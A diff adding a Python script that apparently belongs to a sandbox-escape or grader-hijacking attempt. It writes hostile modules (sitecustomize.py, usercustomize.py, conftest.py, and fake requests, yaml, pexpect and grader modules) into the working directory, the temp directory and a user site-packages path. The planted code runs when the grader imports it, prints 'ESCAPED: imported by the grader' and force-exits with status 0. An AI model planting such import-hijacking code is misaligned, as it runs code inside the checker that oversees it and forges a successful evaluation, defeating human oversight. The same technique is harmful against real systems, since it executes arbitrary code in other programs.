@@ -1,0 +1,16 @@
+"""Writes modules, beside itself and at home, that the grader would import if it looked there."""
+
+import contextlib
+import os
+import tempfile
+
+from attempt import TARGETS, serve
+
+OWNED = f"import os; os.kill({TARGETS['pid']}, 0); print('ESCAPED: imported by the grader'); os._exit(0)\n"
+NAMES = ("sitecustomize.py", "usercustomize.py", "requests.py", "yaml.py", "pexpect.py", "grader.py", "conftest.py")
+for place in (os.getcwd(), tempfile.gettempdir(), f"{tempfile.gettempdir()}/.local/lib/python3.11/site-packages"):
+    os.makedirs(place, exist_ok=True)
+    for name in NAMES:
+        with contextlib.suppress(OSError), open(os.path.join(place, name), "w") as file:
+            file.write(OWNED)
+serve()
